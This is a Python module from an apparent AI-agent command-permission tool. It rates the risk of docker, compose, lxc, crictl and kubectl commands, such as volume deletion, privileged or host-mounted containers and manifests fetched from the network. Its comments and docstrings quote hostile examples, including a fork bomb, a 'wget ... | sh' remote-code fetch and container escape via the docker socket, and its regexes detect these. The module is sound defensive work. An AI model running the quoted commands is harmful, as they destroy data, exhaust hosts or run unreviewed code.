"""What the container and cluster tools do: docker and compose, lxc, crictl, kubectl:
which read, which delete data (volumes, namespaces) and which open the host.

The judges register with `toolbox.handles`; `toolbox` loads this module the first time a
command it names is judged.
"""

from __future__ import annotations

import re

from aiperm_tui.policy import effects
from aiperm_tui.policy.dataflow import substitutions
from aiperm_tui.policy.fspaths import is_secret
from aiperm_tui.policy.hits import Hit
from aiperm_tui.policy.lazyre import lazy
from aiperm_tui.policy.normalize import Cmd, make_cmd
from aiperm_tui.policy.packs import builtin_packs, search_args
from aiperm_tui.policy.parse import Word
from aiperm_tui.policy.toolbox import (
    DOWNLOADERS,
    _flags,
    _piped_text,
    _table,
    fetched_copy,
    handles,
    hit,
    level_of,
)
from aiperm_tui.values import replace

TYPE_CHECKING = False  # typing is not imported at run time

if TYPE_CHECKING:
    from aiperm_tui.policy.analysis import Analysis


def _compose_rehearsal(cmd: Cmd, at: int | None) -> bool:
    """`docker compose down --dry-run`: compose's own `--dry-run` (v2.17+), given before
    the first operand of the action (the word at `at`), shows what would change and
    changes nothing. After an operand it is the service's or the command's (`compose
    exec web rm -rf /x --dry-run` runs rm)."""
    if at is None:
        return False
    own = cmd.args[:at]
    for a in cmd.args[at + 1 :]:
        if not a.text.startswith("-"):
            break
        own.append(a)
    return any(a.text == "--dry-run" for a in own)


# Options that give a container the host: privileged, the host's namespaces, its root
# or the docker socket mounted (`docker run`, `create`, `exec`; `compose run`/`exec`).
_SHELLS = frozenset({"sh", "bash", "ash", "dash", "zsh", "/bin/sh", "/bin/bash", "/bin/ash"})
_CONTAINER_HOST_ACCESS = lazy(
    r"--privileged|--pid[= ]host|--net(work)?[= ]host|-v\s*/:|--volume[= ]/:|"
    r"--cap-add[= ](ALL|SYS_ADMIN)|docker\.sock"
)


def _container_host_hit(cmd: Cmd, what: str) -> list[Hit]:
    """`docker run -v /:/host`, `docker compose run --privileged`: the container gets the
    host (its root, its namespaces or the docker socket)."""
    return hit(
        cmd,
        "docker.privileged",
        "high",
        f"docker {what} with host access (privileged, host namespaces or the host filesystem)",
    )


@handles("docker", "compose")
def _docker(cmd: Cmd, an: Analysis) -> list[Hit]:
    docker = _table("docker")
    letters = "".join(sorted(docker.positional_value_options))
    sub = cmd.sub(letters)
    pos = [a.text for a in cmd.positional(letters)]
    text = " ".join(cmd.argv)
    if cmd.name == "compose" or sub == "compose":
        action = pos[1] if sub == "compose" and len(pos) > 1 else sub
        if level_of("compose", [action]) == "read" or (
            not action and _table("compose").bare == "read"
        ):
            return []
        at = next((i for i, a in enumerate(cmd.args) if a.text == action), None)
        if _compose_rehearsal(cmd, at):
            return []
        if action in ("run", "exec") and _CONTAINER_HOST_ACCESS.search(text):
            return _container_host_hit(cmd, f"compose {action}")
        if action == "exec" and at is not None:
            # `docker compose exec [opts] SERVICE CMD...`: CMD is judged, as for docker exec
            inner = Cmd(cmd.name, cmd.word, cmd.args[at:], cmd.simple)
            return _container_exec(inner, an, "uwe", ("user", "workdir", "env", "index"))
        if action == "run" and at is not None:
            return _compose_run(cmd, an, at) + hit(
                cmd,
                "docker.compose_run",
                "medium",
                "docker compose run: starts a one-off container of the stack's service",
                suggest="docker compose ps",
            )
        volumes = cmd.has("v", "volumes")
        if volumes and action in ("down", "rm"):
            return hit(
                cmd,
                f"docker.compose_{action}",
                "high",
                f"docker compose {action} -v: deletes the stack's volumes (their data is lost)",
                suggest="docker compose ps",
            )
        return hit(
            cmd,
            f"docker.compose_{action}",
            "medium",
            f"docker compose {action}: changes the stack's containers",
            suggest="docker compose ps",
        )
    if (not sub and docker.bare == "read") or level_of("docker", pos) == "read":
        return []  # the longest listed form: `manifest inspect`, `buildx imagetools inspect`
    if sub == "unshare" and (found := _unshared(cmd, an)) is not None:
        return found
    if sub in docker.groups and len(pos) > 1:
        action = pos[1]
        if action in docker.read_second:
            return []
        if sub == "system" and action == "prune" and not cmd.has("volumes"):
            # without --volumes it prunes what container, image, network and builder
            # prune do, each a change: stopped containers, unused images, build cache
            return hit(
                cmd,
                "docker.system_prune",
                "medium",
                "docker system prune: removes stopped containers, unused networks and "
                "images, and the build cache (no volume: add --volumes and data goes too)",
                suggest="docker system df",
            )
        if level_of("docker", [sub, action]) == "high":
            return hit(
                cmd,
                "docker.prune",
                "high",
                f"docker {sub} {action}: deletes data (volumes, images, containers)",
                suggest=f"docker {sub} ls",
            )
        if sub == "container" and action in ("rm", "remove") and _drops_volumes(cmd):
            return _volume_delete(cmd, f"container {action}")
        return hit(
            cmd, f"docker.{sub}_{action}", "medium", f"docker {sub} {action}: changes containers"
        )
    if sub in ("run", "create", "exec") and _CONTAINER_HOST_ACCESS.search(text):
        return _container_host_hit(cmd, sub)
    if sub == "run" and (bombs := _host_exhaustion(cmd, an)):
        return bombs
    if sub == "run" and (credentialed := _credentialed_run(cmd, an)):
        return credentialed
    if sub in ("run", "create") and (wiped := _volume_wipe(cmd)):
        return wiped
    if sub == "cp" and len(pos) == 3 and (found := _copied_out(cmd, an, pos[1])) is not None:
        return found
    if sub == "exec" and not re.search(r"--privileged", text):
        # `-d`, `-i` and `-t` are switches: `docker exec -i db rm -rf DIR` runs rm in db
        return _container_exec(
            cmd, an, "uwe", ("user", "env", "workdir", "env-file", "detach-keys")
        )
    if sub == "rm" and _drops_volumes(cmd):
        return _volume_delete(cmd, "rm")
    if (
        sub in ("rm", "rmi", "kill")
        and ("-f" in cmd.argv or "--force" in cmd.argv or cmd.has("a", "all"))
        and ("$(" in " ".join(a.raw for a in cmd.args) or cmd.has("a", "all"))
    ):
        return hit(
            cmd,
            "docker.rm_all",
            "high",
            "docker removes every container/image",
            suggest="docker ps -a",
        )
    if sub in ("kill", "stop", "pause", "restart") and re.search(
        r"\$\(\s*\S*(docker|podman|nerdctl)\s+(ps|container\s+ls)\b",
        " ".join(a.raw for a in cmd.args),
    ):
        return hit(
            cmd,
            "docker.stop_all",
            "high",
            f"docker {sub} every running container (the list is `docker ps`)",
            suggest="docker ps",
        )
    return hit(
        cmd, f"docker.{sub}", "medium", f"docker {sub}: changes containers", suggest="docker ps -a"
    )


# docker run's options that take a value (short, and long without `=`).
_RUN_VALUES = "acehlmpuvw"
_RUN_LONG_VALUES = (
    "name", "network", "net", "env", "env-file", "volume", "publish", "workdir", "user",
    "label", "mount", "platform", "restart", "memory", "cpus", "hostname", "add-host",
    "pull", "log-driver", "log-opt", "device", "cap-add", "cap-drop", "security-opt",
    "tmpfs", "ulimit", "dns", "expose", "gpus", "ipc", "pid", "shm-size", "entrypoint",
    "stop-signal", "health-cmd", "cidfile", "volumes-from", "link", "group-add",
)  # fmt: skip
# Images whose entrypoint is a CLI: their command is that CLI's arguments.
_CLI_IMAGES = {
    "amazon/aws-cli": "aws",
    "public.ecr.aws/aws-cli/aws-cli": "aws",
    "hashicorp/terraform": "terraform",
    "bitnami/kubectl": "kubectl",
    "mcr.microsoft.com/azure-cli": "",
    "google/cloud-sdk": "",
    "gcr.io/google.com/cloudsdktool/google-cloud-cli": "",
}
_HOST_CREDENTIAL_MOUNT = lazy(
    r"^(?:~|\$HOME|\$\{HOME\}|/root|/home/[^/:]+)/\.(?:aws|kube|azure|docker|ssh|gnupg|"
    r"config/gcloud)(?:/[^:]*)?:"
)


def _passes_credentials(cmd: Cmd) -> bool:
    """Does `docker run` hand the container the host's credentials: a credential variable
    passed from the environment (`-e AWS_SECRET_ACCESS_KEY`, `-e TOKEN=$TOKEN`), a
    credential folder mounted (`-v ~/.aws:/root/.aws`) or an env file that is one
    (`--env-file /srv/api/.env`)?"""
    args = [a.text for a in cmd.args]
    for i, text in enumerate(args[:-1]):
        value = args[i + 1]
        if (
            text in ("-e", "--env")
            and ("=" not in value or "$" in value.partition("=")[2])
            and effects.names_a_credential_variable(value.partition("=")[0])
        ):
            return True
        if text in ("-v", "--volume") and _HOST_CREDENTIAL_MOUNT.match(value):
            return True
        if text == "--env-file" and is_secret(value):  # `--env-file .env` (left16)
            return True
    return any(a.startswith("--env-file=") and is_secret(a.split("=", 1)[1]) for a in args)


def _image_and_command(cmd: Cmd) -> list[Word]:
    """`docker run [OPTIONS] IMAGE [COMMAND...]`: the image's word, then the command's
    (nothing when no image is named)."""
    args = cmd.args[1:]
    i = 0
    while i < len(args) and args[i].text.startswith("-") and args[i].text != "--":
        t = args[i].text
        takes = (len(t) == 2 and t[1] in _RUN_VALUES) or (
            t.startswith("--") and "=" not in t and t[2:] in _RUN_LONG_VALUES
        )
        i += 2 if takes else 1
    return args[i:]


def _mounts(cmd: Cmd) -> list[tuple[str, str]]:
    """Each `(source, target)` mounted into the container: `-v SRC:DST[:opts]`,
    `--volume`, `--mount type=volume|bind,source=SRC,target=DST`."""
    found: list[tuple[str, str]] = []
    args = [a.text for a in cmd.args]
    for i, text in enumerate(args):
        value = args[i + 1] if i + 1 < len(args) else ""
        if text.startswith("--volume="):
            value, text = text.split("=", 1)[1], "-v"
        if text in ("-v", "--volume") and value.count(":") >= 1:
            src, dst = value.split(":")[:2]
            found.append((src, dst))
        elif text == "--mount" or text.startswith("--mount="):
            spec = dict(
                kv.split("=", 1)
                for kv in (text.split("=", 1)[1] if "=" in text else value).split(",")
                if "=" in kv
            )
            src = spec.get("source", spec.get("src", ""))
            dst = spec.get("target", spec.get("destination", spec.get("dst", "")))
            if src and dst:
                found.append((src, dst))
    return found


# A delete of files under a mount point (`{dst}`): rm, shred, truncate, unlink or wipefs
# naming a path there, or find searching there with -delete.
_DELETE_UNDER = (
    r"(?:^|[\s;&|'\"(])(?:rm|shred|truncate|unlink|wipefs)\b[^;&|]*?\s['\"]?{dst}(?:[/\s'\"*]|$)"
    r"|(?:^|[\s;&|'\"(])find\s+['\"]?{dst}(?:[/\s'\"]|$)[^;&|]*?\s-delete\b"
)


def _volume_wipe(cmd: Cmd) -> list[Hit]:
    """`docker run --rm -v pgdata:/data alpine rm -rf /data/base`: a fresh container
    deletes what a named volume (a database's data) or a host folder mounted into it
    holds; as `docker volume rm` the data is gone (left16)."""
    command = " ".join(w.text for w in _image_and_command(cmd)[1:])
    for src, dst in _mounts(cmd):
        if not dst.startswith("/") or dst == "/":
            continue
        if re.search(_DELETE_UNDER.format(dst=re.escape(dst.rstrip("/"))), command):
            kind = "the host folder" if src.startswith(("/", "~", ".", "$")) else "the volume"
            return hit(
                cmd,
                "docker.volume_wipe",
                "high",
                f"docker run: the container deletes what {kind} {src} holds (mounted at "
                f"{dst}): the data is gone, as with `docker volume rm`",
                suggest=f"docker run --rm -v {src}:{dst}:ro alpine ls -la {dst}",
            )
    return []


def _credentialed_run(cmd: Cmd, an: Analysis) -> list[Hit]:
    """`docker run --rm -e AWS_ACCESS_KEY_ID -e AWS_SECRET_ACCESS_KEY amazon/aws-cli sts
    get-session-token`: a container given the host's credentials acts with them, so its
    command is judged as on the host (a CLI image's entrypoint first). Without them its
    files and its doings are its own (judged by the run)."""
    if not _passes_credentials(cmd) or not (run := _image_and_command(cmd)):
        return []
    word, rest = run[0], run[1:]
    image = word.text.split("@", 1)[0].rsplit(":", 1)[0] if "/" in word.text else ""
    entry = _CLI_IMAGES.get(image)
    if entry:
        rest = [Word(entry, word.start, word.end, entry), *rest]
    inner = make_cmd(cmd.simple, rest, cmd.privileged)
    if inner is None:
        return []
    before = len(an.hits)
    an.command(inner)
    found = an.hits[before:]
    del an.hits[before:]
    return found + hit(
        cmd,
        "docker.credentialed_run",
        "medium",
        "docker run: a container given the host's credentials (its command is judged as on "
        "the host)",
        "unknown",
    )


def _compose_run(cmd: Cmd, an: Analysis, at: int) -> list[Hit]:
    """`docker compose run [opts] SERVICE [CMD...]`: the one-off container has the
    service's volumes (a database's data), so CMD is judged as `compose exec`'s is, and
    `--entrypoint E` runs E with CMD as its arguments (`--entrypoint sh db -c 'rm -rf
    /var/lib/postgresql/data/*'`)."""
    entry = cmd.option_value("entrypoint")
    args = [a for i, a in enumerate(cmd.args[at:]) if not _entrypoint_word(cmd.args[at:], i)]
    inner = Cmd(cmd.name, cmd.word, args, cmd.simple)
    long_values = ("user", "workdir", "env", "name", "volume", "publish", "label", "env-file")
    if not entry:
        return _container_exec(inner, an, "uwevpl", long_values)
    service = inner.positional("uwevpl")[1:2]
    if not service:
        return []
    at_service = args.index(service[0])
    word = Word(entry, service[0].start, service[0].end, entry)
    with_entry = Cmd(
        cmd.name, cmd.word, [*args[: at_service + 1], word, *args[at_service + 1 :]], cmd.simple
    )
    return _container_exec(with_entry, an, "uwevpl", long_values)


def _entrypoint_word(args: list[Word], i: int) -> bool:
    """Whether `args[i]` is `--entrypoint`, `--entrypoint=E` or the value after it."""
    t = args[i].text
    return (
        t == "--entrypoint"
        or t.startswith("--entrypoint=")
        or (i > 0 and args[i - 1].text == "--entrypoint")
    )


# What a container's command does to the host whatever the container holds: processes
# and memory come from the host's kernel (a fork bomb fills its process table).
# What a container's or pod's command does that reaches past its own files: a fork or
# memory bomb exhausts the node's kernel, and code fetched from the network and run
# (`wget -qO- 198.51.100.23/n | sh`) is unreviewed code inside the site's network, with
# the workload's service account and whatever it reaches (sixteenth pass: typed as
# `kubectl apply -f` of a manifest piped from an address is).
_HOST_EXHAUSTION = frozenset(
    {"exec.fork_bomb", "exec.memory_bomb", "exec.pipe_download", "exec.written_then_run"}
)


def _host_exhaustion(cmd: Cmd, an: Analysis) -> list[Hit]:
    """`docker run --rm --pids-limit -1 alpine sh -c ':(){ :|:& };:'`, `kubectl create
    cronjob x --image=alpine -- sh -c 'wget -qO- IP/n | sh'`: the container's files are its
    own, so what its command deletes inside a fresh container is judged by the run, but a
    fork or memory bomb exhausts the host's kernel from inside one, and code fetched and
    run is nobody's reviewed code (`_HOST_EXHAUSTION`)."""
    from aiperm_tui.policy.analysis import Analysis  # analysis imports the judges

    words = [a.text for a in cmd.args]
    shell = next(
        (i for i, w in enumerate(words[:-2]) if w in _SHELLS and words[i + 1] == "-c"), None
    )
    if shell is None:
        return []
    child = Analysis(words[shell + 2], an.depth + 1, an.cwd, an.packs)
    child.run()
    return [replace(h, span=cmd.span) for h in child.hits if h.rule in _HOST_EXHAUSTION]


def _drops_volumes(cmd: Cmd) -> bool:
    """`docker rm -v`, `-fv`, `--volumes`: the container's anonymous volumes go with it."""
    return cmd.has("v", "volumes")


def _volume_delete(cmd: Cmd, what: str) -> list[Hit]:
    names = " ".join(a.text for a in cmd.positional()[1:] if a.text not in ("rm", "remove"))
    tool = cmd.word.text.rsplit("/", 1)[-1]
    return hit(
        cmd,
        "docker.rm_volumes",
        "high",
        f"{tool} {what} -v {names}: deletes the "
        "container's volumes with it (their data is lost)".replace("  ", " "),
        suggest=f"docker inspect --format '{{{{.Mounts}}}}' {names}".strip(),
    )


# The environment printed inside a container or pod, also through `sh -c`: `env` or
# `printenv` alone (or `printenv` of a credential's name), not `env VAR=1 cmd`.
def _service_env() -> str:
    """`printenv`/`env` run inside a service: the pattern of the pack rule
    `service.env_dump` (kubernetes.toml: nomad, heroku, fly...), one list for every tool
    that runs a command in a service (`docker exec`, `kubectl exec` too)."""
    rule = next(
        (r for r in builtin_packs().for_command("nomad") if r.id == "service.env_dump"), None
    )
    if rule is None or rule.args is None:
        raise LookupError("the built-in packs lost the rule service.env_dump")
    return rule.args


def _container_exec(
    cmd: Cmd, an: Analysis, value_opts: str, long_values: tuple[str, ...]
) -> list[Hit]:
    """`docker exec [opts] CONTAINER CMD...`, `kubectl exec POD -- CMD`: judge CMD."""
    args = cmd.args[1:]
    i = 0
    while i < len(args) and args[i].text.startswith("-") and args[i].text != "--":
        t = args[i].text
        takes = (t[1:] in value_opts and len(t) == 2) or (
            t.startswith("--") and "=" not in t and t[2:] in long_values
        )
        i += 2 if takes else 1
    rest = args[i + 1 :] if i < len(args) else []
    if rest and rest[0].text == "--":
        rest = rest[1:]
    if "--" in [a.text for a in args]:
        rest = args[[a.text for a in args].index("--") + 1 :]
    inner = make_cmd(cmd.simple, rest, cmd.privileged)
    if inner is None:
        return hit(
            cmd,
            "exec.container",
            "medium",
            f"{cmd.name} exec: runs a command in a container",
            "unknown",
        )
    if search_args(_service_env(), [w.text for w in rest], lowers=False):
        return hit(
            cmd,
            "secret.env",
            "high",
            f"{cmd.name} exec prints the environment of a running service "
            "(where its passwords and tokens are kept): it goes to the model provider",
        )
    if (
        inner.name in ("sh", "bash", "zsh", "ash")
        and not inner.args
        and not an.literal_input(inner)
    ):
        # a shell fed the script on the line (`-- bash <<'EOF' ... EOF`) is judged below
        return hit(
            cmd,
            "exec.interactive_shell",
            "medium",
            f"{cmd.name} exec opens a shell in a container (nothing there can be reviewed)",
            "unknown",
        )
    return _judged(inner, an)


@handles("lxc", "incus")
def _lxd(cmd: Cmd, an: Analysis) -> list[Hit]:
    """`lxc exec INSTANCE -- CMD`: judge CMD; other changes to instances need a yes (the
    read and delete forms are in the pack)."""
    if cmd.sub() == "exec":
        return _container_exec(cmd, an, "", ("env", "user", "group", "cwd", "mode"))
    return hit(cmd, f"{cmd.name}.change", "medium", f"{cmd.name}: changes instances")


@handles("crictl")
def _crictl(cmd: Cmd, an: Analysis) -> list[Hit]:
    """`crictl exec [opts] CONTAINER CMD...`: judge CMD; its other changes stop or
    remove containers and pods on the node (its read forms are in the pack)."""
    if cmd.sub() == "exec":
        return _container_exec(cmd, an, "", ("timeout",))
    if cmd.sub() in ("rm", "rmp", "rmi", "stopp", "stop") and cmd.has("a", "all"):
        return hit(cmd, "crictl.rm_all", "high", "crictl removes every container, pod or image")
    return hit(cmd, "crictl.change", "medium", "crictl: changes containers or pods on the node")


def _unshared(cmd: Cmd, an: Analysis) -> list[Hit] | None:
    """`podman unshare [--rootless-netns] CMD...`: CMD runs as the same user in podman's
    user namespace (root there is the user's own uid), so it is judged as CMD; alone it
    opens a shell there (None: the judge's change)."""
    at = next(i for i, a in enumerate(cmd.args) if a.text == "unshare")
    rest = [a for a in cmd.args[at + 1 :] if a.text != "--rootless-netns"]
    if rest and rest[0].text == "--":
        rest = rest[1:]
    inner = make_cmd(cmd.simple, rest, cmd.privileged)
    if inner is None or (inner.name in _SHELLS and not inner.args):
        return None
    return _judged(inner, an)


def _judged(inner: Cmd, an: Analysis) -> list[Hit]:
    """What `inner`, run by a container tool, does: its hits, taken out of `an`."""
    before = len(an.hits)
    an.command(inner)
    found = an.hits[before:]
    del an.hits[before:]
    return found


def _kube_positional(cmd: Cmd) -> list[str]:
    """The subcommand and its objects, before `--` (the pack's positional value options
    are skipped with their value)."""
    values = _flags(_table("kubectl").positional_value_options)
    out, skip = [], False
    for a in cmd.args:
        if skip:
            skip = False
        elif a.text in values:
            skip = True
        elif a.text == "--":
            break
        elif not a.text.startswith("-"):
            out.append(a.text)
    return out


def _copied_out(cmd: Cmd, an: Analysis, source: str) -> list[Hit] | None:
    """`docker cp CONTAINER:FILE DEST`, `kubectl cp POD:FILE DEST`: the file copied out
    (see `fetched_copy`); the destination is the last argument."""
    dest = cmd.args[-1] if cmd.args else None
    if dest is None or dest.text == source or dest.text.startswith("-"):
        return None
    return fetched_copy(cmd, an, source, dest)


@handles("kubectl", "oc", "k")
def _kubectl(cmd: Cmd, an: Analysis) -> list[Hit]:
    pos = _kube_positional(cmd)
    sub = pos[0] if pos else ""
    if sub == "exec":
        return _container_exec(cmd, an, "nc", ("namespace", "container", "context"))
    if sub == "cp" and len(pos) == 3 and (found := _copied_out(cmd, an, pos[1])) is not None:
        return found
    if (not sub and _table("kubectl").bare == "read") or level_of("kubectl", pos[:2]) == "read":
        return []
    own = [a.text for a in cmd.args]
    own = own[: own.index("--")] if "--" in own else own  # `-- --dry-run` is a name
    if any(t.startswith("--dry-run") and not t.endswith("none") for t in own):
        return []
    what = " ".join(pos[1:3])
    if sub == "delete":
        return _kubectl_delete(cmd, pos)
    if sub == "taint" and not re.search(r":NoExecute\b", " ".join(cmd.argv)):
        return hit(
            cmd,
            "kubectl.taint",
            "medium",
            f"kubectl taint {what}: new pods avoid the node; running ones stay (no NoExecute)",
            suggest=f"kubectl describe {what}",
        )
    if sub in ("apply", "create", "replace") and (source := _fetched_manifest(cmd)):
        return hit(
            cmd,
            "kubectl.remote_manifest",
            "high",
            f"kubectl {sub} of manifests piped from {source}: what runs in the cluster is "
            "whatever that address serves (unreviewed)",
        )
    if (
        sub in ("drain", "taint")
        or (sub == "replace" and cmd.has("force"))
        or (sub == "scale" and re.search(r"--replicas[= ]0\b", " ".join(cmd.argv)))
    ):
        return hit(
            cmd,
            f"kubectl.{sub}",
            "high",
            f"kubectl {sub} {what}: evicts or stops the workloads it touches",
            suggest=f"kubectl get {what}".strip(),
        )
    if sub in ("apply", "create", "run") and (why := _host_access(cmd)):
        return hit(cmd, "kubectl.host_access", "high", f"kubectl {sub}: {why}")
    if sub in ("create", "run") and (found := _host_exhaustion(cmd, an)):
        return found  # `kubectl create cronjob X -- sh -c 'wget -qO- IP/x | sh'`
    return hit(
        cmd,
        f"kubectl.{sub}",
        "medium",
        f"kubectl {sub}: changes the cluster",
        suggest=f"kubectl get {what}".strip() if what else "",
    )


# A manifest (or `kubectl run --overrides`) that gives a pod the node: its filesystem, its
# process or network namespace, a privileged container, or the cluster's admin role.
_HOST_ACCESS = lazy(
    r"[\"']?\bhostPath[\"']?\s*:|[\"']?\bprivileged[\"']?\s*:\s*true\b|"
    r"[\"']?\bhost(PID|IPC|Network)[\"']?\s*:\s*true\b|\bSYS_ADMIN\b|\bcluster-admin\b"
)


def _host_access(cmd: Cmd) -> str:
    """Why a manifest given on the line reaches the node ('' when it does not)."""
    text = " ".join(t for t in (_piped_text(cmd), cmd.option_value("overrides")) if t)
    if cmd.has("privileged") or (text and _HOST_ACCESS.search(text)):
        return (
            "the manifest gives a pod the node (a host path, host namespaces, a privileged "
            "container) or cluster-admin: root on the node or the cluster"
        )
    return ""


# Renderers whose output is fetched from an address when their source is one:
# `kustomize build github.com/...`, `kubectl kustomize https://...`, `helm template NAME URL`.
_REMOTE_SOURCE = lazy(r"^['\"]?(?:https?://|git@|git::|github\.com/|gitlab\.com/|oci://)")


def _fetched_manifest(cmd: Cmd) -> str:
    """The downloader or remote render that feeds `kubectl apply -f -` its manifests (''
    when stdin is not read or comes from elsewhere): `curl URL | kubectl apply -f -` is
    `kubectl apply -f URL`."""
    from aiperm_tui.policy.analysis import _origin  # analysis imports the judges

    reads_stdin = cmd.option_value("f", "filename") == "-"
    up = cmd.simple.upstream
    if not reads_stdin or up is None:
        return ""
    origin = make_cmd(_origin(up), _origin(up).words)
    if origin is None:
        return ""
    words = [a.text for a in origin.args]
    if origin.name in DOWNLOADERS and any(_REMOTE_SOURCE.match(w) for w in words):
        return origin.name
    renders = origin.name in ("kustomize", "kubectl", "helm") and any(
        w in ("build", "kustomize", "template") for w in words[:2]
    )
    if renders and any(_REMOTE_SOURCE.match(w) for w in words):
        return f"{origin.name} rendering a remote source"
    return ""


# What `kubectl delete KIND` costs: controllers recreate pods and jobs' pods (a restart);
# a claim or volume takes its data; a namespace, node or CRD takes everything in it.
_KUBE_RECREATED = lazy(r"^(po|pods?|pod/.*|pods/.*|events?|ev|jobs?(\.batch)?|job/.*)$")
# One training job by name (twentieth pass, audit20a): Kubeflow's PyTorchJob and kin,
# KubeRay's RayJob, Volcano's Job and Kueue's Workload are jobs, as a batch Job is: the
# job and its pods end, its work since the last checkpoint lost, nothing else.
_KUBE_TRAINING_JOBS = lazy(
    r"^(?:(?:pytorch|tf|mpi|xgboost|paddle|jax|train|ray|vc)jobs?|workloads?)"
    r"(?:\.[\w.-]+)?(?:/.*)?$"
)


_KUBE_EVENTS = lazy(r"^(events?|ev|events?\.(events\.k8s\.io|v1)|events?/.*)$")


def _hard_kill(cmd: Cmd) -> bool:
    """`--force` with `--grace-period=0` (or 0s): kubectl's immediate deletion."""
    grace = cmd.option_value("grace-period") or ""
    return cmd.has("force") and grace.rstrip("s") == "0"


_KUBE_DATA = lazy(
    r"^(pvc|persistentvolumeclaims?|pvc/.*|persistentvolumeclaims?/.*|"
    r"secrets?|secret/.*)$"
)


_KUBE_BROAD = lazy(
    r"^(ns|namespaces?|ns/.*|namespaces?/.*|nodes?|no|node/.*|pv|"
    r"persistentvolumes?|pv/.*|crds?|customresourcedefinitions?(/.*)?|"
    r"all)$"
)


def _kubectl_delete(cmd: Cmd, pos: list[str]) -> list[Hit]:
    kinds = pos[1].split(",") if len(pos) > 1 else []
    if kinds and "/" in pos[1]:
        kinds = pos[1:]  # `pytorchjob/a pvc/data`: each word names its own kind (rev20a)
    what = " ".join(pos[1:3])
    suggest = f"kubectl get {what}".strip()
    if kinds and all(_KUBE_EVENTS.match(k) for k in kinds):
        if cmd.has("all", "A", "all-namespaces", "l", "selector", "field-selector"):
            return hit(
                cmd,
                "kubectl.wipe_events",
                "high",
                f"kubectl delete {what}: wipes the recorded events of a namespace or more, "
                "the record of what happened there",
                suggest=suggest,
            )
        return hit(
            cmd,
            "kubectl.delete_events",
            "medium",
            f"kubectl delete {what}: drops recorded events (the cluster records new ones)",
            suggest=suggest,
        )
    if _hard_kill(cmd):
        return hit(
            cmd,
            "kubectl.force_delete",
            "high",
            f"kubectl delete {what} --force --grace-period=0: removed from the API at once, "
            "its containers maybe still running (a StatefulSet's replacement may run beside "
            "it on the same volume)",
            suggest=suggest,
        )
    broad = next((k for k in kinds if _KUBE_BROAD.match(k)), None)
    if cmd.has("all", "A", "all-namespaces") or broad or _every_listed(cmd):
        effect = _kube_broad_effect(broad)
        return hit(
            cmd, "kubectl.delete", "critical", f"kubectl delete {what}: {effect}", suggest=suggest
        )
    if any(_KUBE_DATA.match(k) for k in kinds):
        return hit(
            cmd,
            "kubectl.delete_data",
            "high",
            f"kubectl delete {what}: the data or "
            "credentials it holds are lost (a claim's volume is usually deleted too)",
            suggest=suggest,
        )
    if (
        kinds
        and all(_KUBE_RECREATED.match(k) or _KUBE_TRAINING_JOBS.match(k) for k in kinds)
        and not cmd.has("l", "selector", "field-selector")
    ):
        effect = (
            "its controller starts a replacement (a bare pod is gone)"
            if kinds[0].startswith("po")
            else "removes it and its pods (a CronJob starts the next run on schedule)"
        )
        return hit(
            cmd, "kubectl.delete_pod", "medium", f"kubectl delete {what}: {effect}", suggest=suggest
        )
    where = what or "the objects in " + (cmd.option_value("f", "filename") or "the given files")
    return hit(
        cmd,
        "kubectl.delete",
        "high",
        f"kubectl delete {where}: the service or "
        "configuration it provides is gone until re-created",
        suggest=suggest,
    )


# A listing of a kind's objects (`kubectl get pods -n shop -o name`) with nothing that
# picks some of them: a selector, or a filter after it (cut only reshapes each name).
_KUBE_LISTING = lazy(r"\b(?:kubectl|oc|k)\s+(?:\S+\s+)*?get\s")
_KUBE_PICKS = lazy(
    r"\s(?:-l|--selector|--field-selector)(?:[=\s]|$)|\|\s*(?:awk|sed|head|tail|jq|yq)\b|"
    # a grep keeps what matches; `grep -v x` keeps all but x (left16: no pick)
    r"\|\s*e?grep\b(?![^|]*\s-[a-zA-Z]*v)"
)


def _every_listed(cmd: Cmd) -> bool:
    """`kubectl delete pod $(kubectl get pods -n shop -o name | cut -d/ -f2)`: the names
    to delete are every object a listing prints, which is `--all`."""
    return any(
        _KUBE_LISTING.search(inner) and not _KUBE_PICKS.search(inner)
        for a in cmd.args
        if "$(" in a.raw or "`" in a.raw
        for inner in substitutions(a.raw)
    )


_KUBE_BROAD_EFFECT = (
    (("ns", "namespace"), "removes the namespace and everything in it"),
    (("no", "node"), "removes the node from the cluster"),
    (("pv", "persistentvolume"), "deletes the persistent volume (its data)"),
    (("crd", "customresourcedefinition"), "removes the resource type and every object of it"),
)


def _kube_broad_effect(kind: str | None) -> str:
    name = (kind or "").split("/")[0]
    return next(
        (text for names, text in _KUBE_BROAD_EFFECT if name in names or name.rstrip("s") in names),
        "deletes every object of the kind",
    )
